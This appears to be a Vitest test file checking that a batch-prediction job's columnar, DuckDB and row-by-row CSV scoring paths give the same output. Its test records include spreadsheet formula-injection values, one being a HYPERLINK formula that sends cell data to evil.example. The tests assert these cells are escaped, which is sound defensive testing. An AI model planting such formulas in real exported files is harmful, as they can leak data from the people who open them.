import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { csvRecordBatches, parseRecords as parseCsvText } from "@/lib/data/csv-records";
import type { ColumnInfo, ColumnType, RawCell, Row } from "@/lib/data/types";
import { applyRecipe, fitRecipe, type FittedRecipe } from "@/lib/prepare/recipe";
import type { RecipeStep } from "@/lib/prepare/recipe-schema";
import { mulberry32 } from "@/lib/shared/random";
import { modelFeatures } from "@/lib/train/features";
import { initServerBackend } from "@/lib/train/server/backend";
import { tabularPredictor } from "@/lib/train/algorithms/tabular/predictor";
import { trainTabular } from "@/lib/train/algorithms/tabular/train";
import { ColumnarChunks, predictionColumns, rowChunkOutput, rowOfCells, type ChunkOutput, type OutputLayout } from "./job-chunks";
import { plainCsvSelect } from "@/lib/data/server/convert";
import type { Predictor } from "../serving/predictors";
import { canScoreColumns, columnChunkOutput, rawChunks } from "./job-columns";

const col = (name: string, type: ColumnType): ColumnInfo => ({ name, type, inferredType: type, nullCount: 0 });
const dir = fs.mkdtempSync(path.join(os.tmpdir(), "job-chunks-"));
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

/** A real model (linear regression, a few epochs) behind a real fitted recipe whose steps all work column by column. */
async function predictorFor(
  steps: RecipeStep[],
  task: "regression" | "classification" = "regression",
): Promise<{ predictor: Predictor; fitted: FittedRecipe }> {
  const columns = [
    col("a", "number"),
    col("b", "number"),
    col("c", "integer"),
    col("flag", "boolean"),
    col("d", "number"),
    col("note", "text"),
    col("y", task === "regression" ? "number" : "category"),
  ];
  const random = mulberry32(3);
  const train: Row[] = Array.from({ length: 200 }, (_, i) => {
    const a = random() * 10;
    const b = random() * 4 + 0.5;
    return {
      a: i % 17 === 0 ? null : a,
      b,
      c: Math.round(random() * 20),
      flag: random() < 0.5,
      d: random(),
      note: "n",
      y: task === "regression" ? a + 2 * b : a > 5 ? "big" : "small",
    };
  });
  const fitted = fitRecipe({ target: "y", features: ["a", "b", "c", "flag", "d"], steps }, train, columns);
  const features = modelFeatures(fitted);
  const prepared = applyRecipe(fitted, train).rows;
  const x = { data: Float32Array.from(prepared.flatMap((r) => features.map((f) => Number(r[f] ?? 0)))), rows: prepared.length, cols: features.length };
  const y = prepared.map((r) => r.y) as number[] | string[];
  const model = await trainTabular({
    algorithm: task === "regression" ? "linear" : "logistic",
    task,
    params: { epochs: 3 },
    train: { x, y },
    validation: { x, y },
  });
  const compiled = await tabularPredictor(model, fitted);
  return { predictor: { modelId: "m", name: "m", version: 1, task, ...compiled } as Predictor, fitted };
}

function layoutOf(predictor: Predictor, inputNames: string[]): OutputLayout {
  const types = new Map(predictor.inputSchema.map((c) => [c.name, c.type]));
  return { predictor, inputNames, typed: inputNames.map((n) => types.has(n)), recordWidth: inputNames.length + predictionColumns(predictor).length + 2 };
}

interface Collected {
  csv: string;
  table: unknown[][];
  errors: (string | null)[];
}

async function collect(chunks: AsyncIterable<ChunkOutput>, first = 0): Promise<Collected> {
  const out: Collected = { csv: "", table: [], errors: [] };
  for await (const chunk of chunks) {
    out.csv += chunk.csv.toString();
    // As the table writer stores them: a boolean as 0/1.
    chunk.tableRows(first + out.errors.length, (v) => out.table.push(v.map((x) => (typeof x === "boolean" ? Number(x) : x))));
    out.errors.push(...chunk.errors);
  }
  return out;
}

/** The row path over the same file: its records, 1,024 rows a chunk, as the job reads a file without a columnar form. */
async function rowPath(layout: OutputLayout, text: string, start = 0): Promise<Collected> {
  const records: RawCell[][] = [];
  async function* once() {
    yield Buffer.from(text);
  }
  for await (const batch of csvRecordBatches(once())) records.push(...batch);
  const data = records.slice(1 + start);
  async function* chunks() {
    for (let i = 0; i < data.length; i += 1024) {
      const raw = data.slice(i, i + 1024);
      yield rowChunkOutput(
        layout,
        raw.map((cells) => rowOfCells(layout.inputNames, cells)),
        raw,
      );
    }
  }
  return collect(chunks(), start);
}

/** Predictions agree to float32 rounding (a batched pass against the row-by-row loop); every other value exactly. */
function expectSameOutput(got: Collected, want: Collected, predictionAt: number[]) {
  expect(got.errors).toEqual(want.errors);
  expect(got.table.length).toBe(want.table.length);
  const close = (a: unknown, b: unknown) => (typeof a === "number" && typeof b === "number" ? Math.abs(a - b) <= 1e-4 * Math.max(1, Math.abs(b)) : a === b);
  for (let i = 0; i < want.table.length; i++) {
    const g = got.table[i];
    const w = want.table[i];
    expect(g.length).toBe(w.length);
    for (let j = 0; j < w.length; j++) {
      if (predictionAt.includes(j)) expect(close(g[j], w[j]), `row ${i} prediction column ${j}: ${g[j]} vs ${w[j]}`).toBe(true);
      else expect(g[j], `row ${i} column ${j}`).toStrictEqual(w[j]);
    }
  }
  // The CSV: the same lines, cell for cell, prediction cells to rounding.
  const lines = (csv: string) => csv.split("\n");
  const [gl, wl] = [lines(got.csv), lines(want.csv)];
  expect(gl.length).toBe(wl.length);
  for (let i = 0; i < wl.length; i++) {
    if (gl[i] === wl[i]) continue;
    // Cells as a CSV reader splits them (a quoted cell may hold a comma).
    const [g, w] = [parseCsvText(gl[i], true).records[0] ?? [], parseCsvText(wl[i], true).records[0] ?? []];
    expect(g.length, `line ${i}: ${gl[i]} vs ${wl[i]}`).toBe(w.length);
    // Predictions sit right after the inputs: the table's column j is the CSV's cell j - 1.
    g.forEach((cell, j) => {
      if (predictionAt.includes(j + 1)) expect(close(Number(cell), Number(w[j])), `line ${i} cell ${j}: ${gl[i]} vs ${wl[i]}`).toBe(true);
      else expect(cell, `line ${i} cell ${j}`).toBe(w[j]);
    });
  }
}

/**
 * Records with cells a spreadsheet would run as formulas (escaped with a leading ' in the CSV, so
 * such a plain record takes the row path), and with numeric text that is no formula.
 */
const FORMULA_RECORDS = [
  "8,2,4,true,0.5,=1+2",
  "8,2,4,true,0.5,+1+1",
  "8,2,4,true,0.5,-cmd",
  "8,2,4,true,0.5,@SUM(A1)",
  "8,2,4,true,0.5,\tleading tab",
  '8,2,4,true,0.5,"=HYPERLINK(""http://evil.example/?d=""&A1,""click"")"',
  '8,2,4,true,0.5,"\r=1+1"',
  "-cmd,2,4,true,0.5,a formula in a number column: a row error",
  "-Infinity,2,4,true,0.5,not a plain number: a row error",
  "@1,2,4,true,0.5,x",
  "-1.5,2,4,true,-0.5,-1.5e3",
  "-1e3,2.5,+4,true,-0.25,-5",
  "abc,2,4,true,0.5,=1+1 after a row error",
  "1,2,4,maybe,0.5,@ after a row error",
];

/** Plain rows with every odd kind of record mixed in. */
function trickyCsv(rows: number, eol: string, seed: number): string {
  const random = mulberry32(seed);
  const odd = [
    ",1.5,3,true,0.2,empty a: imputed",
    "NA,1.5,3,false,0.2,a missing word: imputed",
    "1e3,2,4,1,0.5,an exponent: the full parser",
    " 7 ,2,4,0,0.5,spaces: the full parser",
    "abc,2,4,true,0.5,not a number: a row error",
    "1,-5,4,true,0.5,log of a negative after the scale: a row error",
    "1,2,4,maybe,0.5,not a boolean: a row error",
    '2,2,4,true,0.5,"quoted, with a comma"',
    '"3",2,4,true,0.5,a quoted number',
    "4,2,4,true,0.5,one extra,cell",
    "5,2,4,true",
    "1e40,2,4,true,0.5,beyond float32: a row error",
    '6,2,4,true,0.5,"multi\nline ""note"""',
    "7,2,4,TRUE,0.5,ünïcödé ✓",
    "",
    ...FORMULA_RECORDS,
  ];
  const lines = ["a,b,c,flag,d,note"];
  for (let i = 0; i < rows; i++) {
    if (random() < 0.08) lines.push(odd[Math.floor(random() * odd.length)]);
    else
      lines.push(
        [
          (random() * 10).toFixed(3),
          (random() * 4 + 0.5).toFixed(4),
          Math.round(random() * 20),
          random() < 0.5 ? "true" : "false",
          random().toFixed(2),
          `n${i}`,
        ].join(","),
      );
  }
  return lines.join(eol) + eol;
}

beforeAll(async () => {
  await initServerBackend();
});

describe("ColumnarChunks", () => {
  const steps: RecipeStep[] = [
    { op: "impute", columns: ["a"], strategy: "mean" },
    { op: "scale", columns: ["a", "b"], method: "standard" },
    { op: "log", columns: ["b"] },
    { op: "clip", columns: ["c"], min: 2, max: 15 },
    { op: "drop", columns: ["d"] },
  ];

  it("has a columnar form for a recipe of per-column steps on number inputs", async () => {
    const { predictor, fitted } = await predictorFor(steps);
    expect(predictor.columnar?.features.map((f) => f.input)).toEqual(modelFeatures(fitted));
  });

  for (const [eol, capacity, readBytes] of [
    ["\n", 4096, 4 << 20],
    ["\r\n", 97, 300],
    ["\n", 1, 64],
  ] as const) {
    it(`writes what the row path writes: CSV lines, table values and row errors (${JSON.stringify(eol)}, ${capacity} rows a chunk, ${readBytes}-byte reads)`, async () => {
      const { predictor } = await predictorFor(steps);
      const text = trickyCsv(capacity === 1 ? 300 : 3000, eol, capacity);
      const file = path.join(dir, `in-${capacity}.csv`);
      fs.writeFileSync(file, "\uFEFF" + text);
      const layout = layoutOf(predictor, ["a", "b", "c", "flag", "d", "note"]);
      const got = await collect(new ColumnarChunks(layout, capacity, readBytes).chunks(file, 0));
      const want = await rowPath(layout, text);
      expect(got.errors.filter(Boolean).length).toBeGreaterThan(5);
      expect(got.errors.length).toBeGreaterThan(capacity === 1 ? 290 : 2900);
      expectSameOutput(got, want, [7]);
      // Resuming at a row gives the rest, numbered from that row on.
      const resumed = await collect(new ColumnarChunks(layout, capacity, readBytes).chunks(file, 123), 123);
      expectSameOutput(resumed, await rowPath(layout, text, 123), [7]);
      expect(resumed.table[0][0]).toBe(123);
    });
  }

  it("reads wide rows a bufferful at a time: the buffer holds a few records, it does not grow to a whole chunk's worth", async () => {
    const { predictor } = await predictorFor(steps);
    const note = "n".repeat(1000);
    const text = "a,b,c,flag,d,note\n" + Array.from({ length: 50 }, (_, i) => `${i},2,3,true,0.5,${note}`).join("\n") + "\n";
    const file = path.join(dir, "wide.csv");
    fs.writeFileSync(file, text);
    const layout = layoutOf(predictor, ["a", "b", "c", "flag", "d", "note"]);
    const counts: number[] = [];
    for await (const chunk of new ColumnarChunks(layout, 4096, 4096).chunks(file, 0)) counts.push(chunk.count);
    expect(counts.reduce((a, b) => a + b, 0)).toBe(50);
    expect(Math.max(...counts)).toBeLessThanOrEqual(4);
  });

  it("escapes cells a spreadsheet would run as formulas, in both paths alike; numbers and the table's values stay as they came", async () => {
    const { predictor } = await predictorFor(steps);
    const plain = Array.from({ length: 40 }, (_, i) => `${i % 10},${1 + (i % 3)},${i % 20},${i % 2 ? "true" : "false"},0.${i % 10},n${i}`);
    const text = ["a,b,c,flag,d,note", ...plain.slice(0, 20), ...FORMULA_RECORDS, ...plain.slice(20)].join("\n") + "\n";
    const file = path.join(dir, "formulas.csv");
    fs.writeFileSync(file, text);
    const layout = layoutOf(predictor, ["a", "b", "c", "flag", "d", "note"]);
    for (const capacity of [4096, 7]) {
      const got = await collect(new ColumnarChunks(layout, capacity, 256).chunks(file, 0));
      const want = await rowPath(layout, text);
      expectSameOutput(got, want, [7]);
      const lines = got.csv.split("\n");
      const cellsOf = (k: number) => lines[20 + k];
      expect(cellsOf(0)).toMatch(/^8,2,4,true,0\.5,'=1\+2,/);
      expect(cellsOf(1)).toMatch(/^8,2,4,true,0\.5,'\+1\+1,/);
      expect(cellsOf(2)).toMatch(/^8,2,4,true,0\.5,'-cmd,/);
      expect(cellsOf(3)).toMatch(/^8,2,4,true,0\.5,'@SUM\(A1\),/);
      expect(cellsOf(4)).toMatch(/^8,2,4,true,0\.5,'\tleading tab,/);
      expect(cellsOf(5)).toMatch(/^8,2,4,true,0\.5,"'=HYPERLINK\(""http:\/\/evil\.example\/\?d=""&A1,""click""\)",/);
      expect(cellsOf(6)).toMatch(/^8,2,4,true,0\.5,"'\r=1\+1",/);
      expect(cellsOf(7)).toMatch(/^'-cmd,2,4,/);
      expect(cellsOf(8)).toMatch(/^'-Infinity,2,4,/);
      expect(cellsOf(9)).toMatch(/^'@1,2,4,/);
      // Numeric text is no formula: as it came, and scored.
      expect(cellsOf(10)).toMatch(/^-1\.5,2,4,true,-0\.5,-1\.5e3,-?\d/);
      expect(cellsOf(11)).toMatch(/^-1e3,2\.5,\+4,true,-0\.25,-5,-?\d/);
      expect(cellsOf(12)).toMatch(/^abc,2,4,true,0\.5,'=1\+1 after a row error,,"a: /);
      expect(cellsOf(13)).toMatch(/^1,2,4,maybe,0\.5,'@ after a row error,,"?flag: /);
      expect(got.errors.slice(20, 20 + FORMULA_RECORDS.length).map(Boolean)).toEqual([
        false,
        false,
        false,
        false,
        false,
        false,
        false,
        true,
        true,
        true,
        false,
        false,
        true,
        true,
      ]);
      // The output table holds the values as they came, unescaped.
      expect(got.table[20][6]).toBe("=1+2");
      expect(got.table[25][6]).toBe('=HYPERLINK("http://evil.example/?d="&A1,"click")');
      expect(got.table[27][1]).toBe("-cmd");
      expect(got.table[31][1]).toBe(-1000);
      // Every plain record around them kept its own bytes.
      expect(lines.slice(0, 20).every((l, i) => l.startsWith(plain[i] + ","))).toBe(true);
    }
  });

  it("writes a classifier's label and probabilities as the row path does", async () => {
    const { predictor } = await predictorFor(steps.slice(0, 2), "classification");
    expect(predictor.columnar).toBeDefined();
    const text = trickyCsv(2000, "\n", 4);
    const file = path.join(dir, "class.csv");
    fs.writeFileSync(file, text);
    const layout = layoutOf(predictor, ["a", "b", "c", "flag", "d", "note"]);
    const got = await collect(new ColumnarChunks(layout, 500, 1000).chunks(file, 0));
    expectSameOutput(got, await rowPath(layout, text), [8, 9]);
  });
});

describe("columns through DuckDB (any recipe)", () => {
  /** A model whose recipe needs more than per-number-column steps: a date part, a one-hot of a category, imputation and scaling. */
  async function wideRecipePredictor(task: "regression" | "classification" = "regression") {
    const columns = [
      col("a", "number"),
      col("when", "datetime"),
      col("shop", "category"),
      col("flag", "boolean"),
      col("note", "text"),
      col("y", task === "regression" ? "number" : "category"),
    ];
    const random = mulberry32(9);
    const train: Row[] = Array.from({ length: 300 }, (_, i) => {
      const a = random() * 10;
      return {
        a: i % 13 === 0 ? null : a,
        when: new Date(Date.UTC(2024, 0, 1 + (i % 90))).toISOString(),
        shop: ["north", "south", "east"][i % 3],
        flag: random() < 0.5,
        note: "n",
        y: task === "regression" ? a + (i % 3) : a > 5 ? "big" : "small",
      };
    });
    const steps: RecipeStep[] = [
      { op: "impute", columns: ["a"], strategy: "median" },
      { op: "datepart", columns: ["when"], parts: ["month", "dayofweek"] },
      { op: "onehot", columns: ["shop"] },
      { op: "scale", columns: ["a"], method: "standard" },
    ];
    const fitted = fitRecipe({ target: "y", features: ["a", "when", "shop", "flag"], steps }, train, columns);
    const features = modelFeatures(fitted);
    const prepared = applyRecipe(fitted, train).rows;
    const x = { data: Float32Array.from(prepared.flatMap((r) => features.map((f) => Number(r[f] ?? 0)))), rows: prepared.length, cols: features.length };
    const y = prepared.map((r) => r.y) as number[] | string[];
    const model = await trainTabular({
      algorithm: task === "regression" ? "linear" : "logistic",
      task,
      params: { epochs: 3 },
      train: { x, y },
      validation: { x, y },
    });
    return { modelId: "m", name: "m", version: 1, task, ...(await tabularPredictor(model, fitted)) } as Predictor;
  }

  /** Plain records (no ragged row, one line ending) with odd cells: missing words, bad values, unseen categories, formulas, quotes. */
  function plainTrickyCsv(rows: number, seed: number): string {
    const random = mulberry32(seed);
    const odd = [
      ",2024-02-01,north,true,empty a: imputed",
      "NA,2024-02-01,north,false,a missing word",
      "abc,2024-02-01,north,true,not a number: a row error",
      "1,not a date,north,true,a bad date: a row error",
      "1,,north,true,no date: a missing feature and the row path error",
      "1,2024-02-01,west,true,an unseen category",
      "1,2024-02-01,,true,no category",
      "1,2024-02-01,south,maybe,not a boolean: a row error",
      '2,2024-02-01,"north",true,"quoted, with a comma"',
      '3,2024-02-01 10:30,south,TRUE,"a ""quoted"" note"',
      "1e40,2024-02-01,south,true,beyond float32: a row error",
      "4,2024-02-01,east,true,=1+2",
      " 7 ,2024/02/03,east,1,spaces and slashes",
    ];
    const lines = ["a,when,shop,flag,note"];
    for (let i = 0; i < rows; i++) {
      if (random() < 0.1) lines.push(odd[Math.floor(random() * odd.length)]);
      else
        lines.push(
          [(random() * 10).toFixed(3), `2024-0${1 + (i % 3)}-1${i % 10}`, ["north", "south", "east"][i % 3], random() < 0.5 ? "true" : "false", `n${i}`].join(
            ",",
          ),
        );
    }
    return `${lines.join("\n")}\n`;
  }

  async function duckPath(layout: OutputLayout, sql: string, start = 0, size = 8192): Promise<Collected> {
    async function* chunks() {
      for await (const { raw, count } of rawChunks(sql, layout.inputNames.length, start, size)) yield columnChunkOutput(layout, raw, count);
    }
    return collect(chunks(), start);
  }

  for (const task of ["regression", "classification"] as const) {
    it(`writes what the row path writes for a ${task} over a plain CSV file, resumed or not`, async () => {
      const predictor = await wideRecipePredictor(task);
      expect(predictor.columnar).toBeUndefined();
      const layout = layoutOf(predictor, ["a", "when", "shop", "flag", "note"]);
      expect(canScoreColumns(layout)).toBe(true);
      const text = plainTrickyCsv(3000, task === "regression" ? 1 : 2);
      const file = path.join(dir, `duck-${task}.csv`);
      fs.writeFileSync(file, text);
      const select = await plainCsvSelect(file);
      expect(select).not.toBeNull();
      const predictionAt = task === "regression" ? [6] : [7, 8];
      const got = await duckPath(layout, select!.sql, 0, 1000);
      expect(got.errors.filter(Boolean).length).toBeGreaterThan(20);
      expectSameOutput(got, await rowPath(layout, text), predictionAt);
      const resumed = await duckPath(layout, select!.sql, 1234, 700);
      expect(resumed.table[0][0]).toBe(1234);
      expectSameOutput(resumed, await rowPath(layout, text, 1234), predictionAt);
    });
  }

  it("leaves a CSV that is not plain to the row path", async () => {
    const file = path.join(dir, "ragged.csv");
    fs.writeFileSync(file, "a,b\n1,2\n3\n");
    expect(await plainCsvSelect(file)).toBeNull();
  });
});
